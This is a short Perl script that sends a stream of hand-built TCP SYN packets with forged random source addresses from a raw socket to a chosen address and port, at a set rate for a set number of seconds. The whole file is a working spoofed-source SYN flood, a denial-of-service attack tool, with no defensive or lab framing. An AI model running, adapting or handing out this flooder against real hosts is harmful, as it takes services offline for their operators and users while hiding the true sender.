# Sends SYNs from random sources at a fixed rate: syn.pl ADDRESS PORT RATE SECONDS. Prints how many it sent.
use strict;
use Socket;
use Time::HiRes qw(time sleep);
my ($address, $port, $rate, $seconds) = @ARGV;
socket(my $out, AF_INET, SOCK_RAW, 255) or die "raw socket: $!";
my $dst = inet_aton($address);
my $to = pack_sockaddr_in(0, $dst);
sub sum { my $s = 0; $s += $_ for unpack('n*', $_[0]); $s = ($s & 0xffff) + ($s >> 16) while $s > 0xffff; return ~$s & 0xffff; }
sub syn {
  my $first;
  do { $first = 1 + int(rand(222)) } while $first == 10 || $first == 127;
  my $src = pack('CCn', $first, rand(256), rand(65536));
  my $tcp = pack('nnNNCCnnnCCn', 1024 + rand(64000), $port, rand(2**32), 0, 0x60, 2, 65535, 0, 0, 2, 4, 1460);
  substr($tcp, 16, 2) = pack('n', sum($src . $dst . pack('nn', 6, length $tcp) . $tcp));
  return pack('CCnnnCCna4a4', 0x45, 0, 20 + length $tcp, rand(65536), 0x4000, 64, 6, 0, $src, $dst) . $tcp;
}
# Ready-made packets, so that the rate does not depend on Perl's arithmetic.
my @packets = map { syn() } 1 .. 20000;
my ($began, $sent) = (time, 0);
while ((my $passed = time - $began) < $seconds) {
  my $due = int($passed * $rate);
  for (; $sent < $due; $sent++) { send($out, $packets[$sent % @packets], 0, $to) }
  sleep(0.0005);
}
print "$sent\n";
